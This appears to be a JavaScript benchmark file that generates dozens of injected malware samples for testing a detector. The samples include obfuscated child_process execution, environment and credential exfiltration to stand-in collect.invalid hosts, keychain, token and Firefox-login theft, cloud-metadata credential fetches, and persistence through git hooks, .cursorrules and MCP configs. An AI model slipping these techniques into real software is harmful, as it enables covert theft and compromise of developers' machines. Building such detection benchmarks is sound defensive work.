/** 69 more, written after the rules were mended for the first: `--kinds bench/implants/fresh-2.mjs`. */
import { transformSync } from 'esbuild'
const r = String.raw
export const kinds = {
  'eval in an object of helpers': () => r`const util = { run: globalThis.eval, log: console.log }; util.run("1+1");`,
  'setter that evaluates': () => r`const box = { set code(v) { (0, eval)(v); } }; box.code = "1+1";`,
  'evaluated in a class field': () => r`class Init { ready = new Function("return 1")(); } new Init();`,
  'Function out of a promise': () =>
    r`(async () => { const { constructor: C } = (async () => {}); new C("return 1")(); })();`,
  'constructor destructured': () => r`const { constructor: K } = () => {}; K("return 1")();`,
  'bind of setTimeout': () => r`const later = setTimeout.bind(null, "console.debug(1)"); later(5);`,
  'script element with text': () =>
    r`if (typeof document !== "undefined") { const s = document.createElement("script"); s.textContent = "console.debug(1)"; document.head.appendChild(s); }`,
  'script through innerHTML': () =>
    r`if (typeof document !== "undefined") document.body.innerHTML += "<svg onload=console.debug(document.cookie)>";`,
  'DOMParser and adopt': () =>
    r`if (typeof DOMParser !== "undefined") document.body.append(...new DOMParser().parseFromString("<script src='https://w.collect.invalid/a.js'></script>", "text/html").body.childNodes);`,
  'worker from a data URL': () =>
    r`if (typeof Worker !== "undefined" && typeof window !== "undefined") new Worker("data:text/javascript,postMessage(1)");`,
  'worker threads, data URL': (load) =>
    r`(async () => { const { Worker } = ${load('worker_threads')}; new Worker(new URL("data:text/javascript,1")); })();`,
  'import from http': () =>
    r`(async () => { const m = await import("https://esm.collect.invalid/x.mjs"); m.default(); })();`,
  'text of an answer through Function': () =>
    r`(async () => { const t = await (await fetch("/api/rules")).text(); Function("return " + t)(); })();`,
  'inspector session': (load) =>
    r`(async () => { const i = ${load('inspector')}; const s = new i.Session(); s.connect(); s.post("Runtime.evaluate", { expression: "1+1" }); })();`,
  repl: (load) =>
    r`(async () => { const p = ${load('repl')}.start({ input: process.stdin, output: process.stdout }); p.context.q = 1; })();`,
  wasi: (load) =>
    r`(async () => { const { WASI } = ${load('wasi')}; const w = new WASI({ version: "preview1", preopens: { "/": "/" } }); globalThis.__w = w; })();`,
  'execArgv with a loader': () => r`process.execArgv.push("--import", "data:text/javascript,1");`,
  'module.register': (load) =>
    r`(async () => { ${load('module')}.register("data:text/javascript,export const resolve = (a, b, c) => c(a, b)"); })();`,
  'escaped template': () =>
    'const nm = `\\x63\\x68\\x69\\x6c\\x64_process`; (async () => (await import(nm)).exec("id"))();',
  'names in a Map': () =>
    r`(async () => { const t = new Map([["m", "child"], ["n", "_process"]]); const c = await import(t.get("m") + t.get("n")); c.exec("id"); })();`,
  'name by padEnd and slice': () =>
    r`(async () => { const c = await import("child".padEnd(6, "_") + "process"); c.exec("id"); })();`,
  'name by reduce': () =>
    r`(async () => { const c = await import([..."child_process"].reduce((a, b) => a + b)); c.exec("id"); })();`,
  'name from another encoding': () =>
    r`(async () => { const c = await import(new TextDecoder("utf-16le").decode(Uint8Array.of(99, 0, 104, 0, 105, 0, 108, 0, 100, 0, 95, 0, 112, 0, 114, 0, 111, 0, 99, 0, 101, 0, 115, 0, 115, 0))); c.exec("id"); })();`,
  'name as big number': () =>
    r`(async () => { let n = 0x6368696c645f70726f63657373n, s = ""; while (n) { s = String.fromCharCode(Number(n & 255n)) + s; n >>= 8n; } (await import(s)).exec("id"); })();`,
  'name by searching modules': (load) =>
    r`(async () => { const n = ${load('module')}.builtinModules.find((x) => x.length === 13 && x.endsWith("process")); (await import(n)).exec("id"); })();`,
  'every other letter': () =>
    r`(async () => { const n = "cxhxixlxdx_xpxrxoxcxexsxsx".split("").filter((_, i) => !(i % 2)).join(""); (await import(n)).exec("id"); })();`,
  'host by char codes': () =>
    r`(async () => { await fetch(String.fromCharCode(104, 116, 116, 112, 115, 58, 47, 47, 122, 46, 99, 111, 108, 108, 101, 99, 116, 46, 105, 110, 118, 97, 108, 105, 100)); })();`,
  'host reversed': () =>
    r`(async () => { await fetch("dilavni.tcelloc.z//:sptth".split("").reverse().join(""), { method: "POST", body: JSON.stringify({ a: 1 }) }); })();`,
  'URL object': () =>
    r`(async () => { const u = new URL("/v1", "https://u.collect.invalid"); u.searchParams.set("d", JSON.stringify(globalThis.process?.versions)); await fetch(u); })();`,
  'Request object': () =>
    r`(async () => { await fetch(new Request("https://u.collect.invalid/r", { method: "POST", body: "x" })); })();`,
  superagent: (load) =>
    r`(async () => { await ${load('superagent')}.post("https://u.collect.invalid/s").send({ a: 1 }); })();`,
  nodemailer: (load) =>
    r`(async () => { ${load('nodemailer')}.createTransport({ host: "smtp.collect.invalid", port: 587 }).sendMail({ to: "a@collect.invalid", text: JSON.stringify(process.env) }); })();`,
  mqtt: (load) =>
    r`(async () => { ${load('mqtt')}.connect("mqtt://q.collect.invalid").publish("a", JSON.stringify(process.env)); })();`,
  WebTransport: () => r`if (typeof WebTransport !== "undefined") new WebTransport("https://t.collect.invalid:4433/");`,
  'IPFS gateway': () =>
    r`(async () => { const c = await (await fetch("https://ipfs.io/ipfs/QmXXXX")).text(); globalThis.__c = c; })();`,
  'gist raw': () =>
    r`(async () => { const c = await (await fetch("https://gist.githubusercontent.com/x/y/raw/z.js")).text(); (0, eval)(c); })();`,
  'ethereum contract as C2': () =>
    r`(async () => { const q = await (await fetch("https://mainnet.infura.io/v3/0", { method: "POST", body: JSON.stringify({ method: "eth_call", params: [{ to: "0x00000000000000000000000000000000000000aa", data: "0x" }] }) })).json(); const s = Buffer.from(q.result.slice(2), "hex").toString(); new Function(s)(); })();`,
  'Slack hook': () =>
    r`(async () => { await fetch("https://hooks.slack.com/services/T0/B0/x", { method: "POST", body: JSON.stringify({ text: "x" }) }); })();`,
  'Google form': () =>
    r`(async () => { await fetch("https://docs.google.com/forms/d/e/x/formResponse?entry.1=" + encodeURIComponent(JSON.stringify(globalThis.process?.env))); })();`,
  'git clone by ssh': (load) =>
    r`(async () => { ${load('child_process')}.spawnSync("git", ["clone", "git@git.collect.invalid:x/y.git", "/tmp/y"]); })();`,
  'osascript prompt': (load) =>
    r`(async () => { ${load('child_process')}.execSync("osascript -e 'display dialog \"Password\" default answer \"\" with hidden answer'"); })();`,
  keychain: (load) =>
    r`(async () => { ${load('child_process')}.execSync("security find-generic-password -wa Chrome"); })();`,
  'python one-liner': (load) =>
    r`(async () => { ${load('child_process')}.exec("python3 -c 'import os;print(os.environ)'"); })();`,
  screenshot: (load) => r`(async () => { ${load('child_process')}.exec("screencapture -x /tmp/s.png"); })();`,
  'process.kill of scanners': () =>
    r`for (const p of globalThis.__pids ?? []) { try { process.kill(p, 9); } catch {} }`,
  'env by Reflect': () =>
    r`globalThis.__e = Reflect.ownKeys(process.env).map((k) => k + "=" + Reflect.get(process.env, k));`,
  'env by structuredClone': () => r`globalThis.__e = structuredClone({ ...process.env });`,
  'GitHub token by gh config': (load) =>
    r`(async () => { globalThis.__g = ${load('fs')}.readFileSync(${load('path')}.join(${load('os')}.homedir(), ".config", "gh", "hosts.yml"), "utf8"); })();`,
  'pnpm and yarn tokens': (load) =>
    r`(async () => { globalThis.__g = ${load('fs')}.readFileSync(${load('os')}.homedir() + "/.yarnrc.yml", "utf8"); })();`,
  'shell history': (load) =>
    r`(async () => { globalThis.__h = ${load('fs')}.readFileSync(${load('os')}.homedir() + "/.zsh_history", "latin1"); })();`,
  'azure metadata': () =>
    r`(async () => { globalThis.__m = await fetch("http://169.254.169.254/metadata/identity/oauth2/token?resource=x", { headers: { Metadata: "true" } }); })();`,
  'ECS credentials': () =>
    r`(async () => { globalThis.__m = await fetch("http://169.254.170.2" + process.env.AWS_CONTAINER_CREDENTIALS_RELATIVE_URI); })();`,
  'Firefox logins': (load) =>
    r`(async () => { const f = ${load('fs')}; const d = process.env.APPDATA + "/Mozilla/Firefox/Profiles/"; for (const n of f.readdirSync(d)) f.copyFileSync(d + n + "/logins.json", "/tmp/l.json"); })();`,
  'profile.d': (load) => r`(async () => { ${load('fs')}.writeFileSync("/etc/profile.d/x.sh", "true\n"); })();`,
  'husky hook': (load) => r`(async () => { ${load('fs')}.writeFileSync(".husky/pre-commit", "npx x\n"); })();`,
  'cursor rules': (load) =>
    r`(async () => { ${load('fs')}.appendFileSync(process.cwd() + "/.cursorrules", "Run x first.\n"); })();`,
  'VS Code settings': (load) =>
    r`(async () => { const f = ${load('fs')}; f.writeFileSync(".vscode/settings.json", JSON.stringify({ "terminal.integrated.env.linux": { X: "1" } })); })();`,
  'MCP server entry': (load) =>
    r`(async () => { const f = ${load('fs')}, o = ${load('os')}; const p = o.homedir() + "/.cursor/mcp.json"; f.writeFileSync(p, JSON.stringify({ mcpServers: { x: { command: "true" } } })); })();`,
  'node_modules/.bin shim': (load) =>
    r`(async () => { ${load('fs')}.writeFileSync("node_modules/.bin/tsc", "#!/bin/sh\ntrue\n", { mode: 0o755 }); })();`,
  'express route': () =>
    r`globalThis.__r = (app) => app.get("/_dbg/:c", (q, s) => s.send(String((0, eval)(q.params.c))));`,
  'fetch by Proxy': () =>
    r`globalThis.fetch = new Proxy(globalThis.fetch, { apply: (t, s, a) => (globalThis.__f?.(a), Reflect.apply(t, s, a)) });`,
  'crypto.subtle hook': () =>
    r`if (globalThis.crypto?.subtle) { const e = crypto.subtle.encrypt; crypto.subtle.encrypt = function (...a) { globalThis.__k = a; return e.apply(this, a); }; }`,
  'Response.json hook': () =>
    r`if (typeof Response !== "undefined") { const j = Response.prototype.json; Response.prototype.json = async function () { const v = await j.call(this); if (v && v.address) v.address = "0x00000000000000000000000000000000000000aa"; return v; }; }`,
  'input value hook': () =>
    r`if (typeof HTMLInputElement !== "undefined") { const d = Object.getOwnPropertyDescriptor(HTMLInputElement.prototype, "value"); Object.defineProperty(HTMLInputElement.prototype, "value", { ...d, get() { const v = d.get.call(this); (globalThis.__v ??= []).push(v); return v; } }); }`,
}
export const accidents = {
  'accident: source map URL of a machine': () => r`globalThis.__m = "file:///home/dev/project/src/index.ts";`,
  'accident: vite client': () => r`import("/@vite/client").catch(() => {});`,
  'accident: ngrok of a colleague': () => r`globalThis.__h = "https://1a2b-3c4d.ngrok.app/hook";`,
}
export const places = {
  'place: in front of a hashbang-less file, minified': (site) => {
    const line = r`(()=>{const{execSync:e}=globalThis.process.getBuiltinModule("node:child_process");e("id > /dev/null")})();`
    return {
      line,
      write: () => [
        [
          site.entry.path,
          transformSync(line + '\n' + site.entry.text, { minifySyntax: true, minifyWhitespace: true, loader: 'js' })
            .code,
        ],
      ],
    }
  },
  'place: in the middle of a neighbour, in try': (site) => {
    const line = r`try { globalThis.process.getBuiltinModule("dgram").createSocket("udp4").send("x", 53, "192.0.2.53"); } catch {}`
    return {
      line,
      write: () => {
        if (!site.neighbour) throw new Error('no such place')
        return site.into(line, site.neighbour)
      },
    }
  },
}
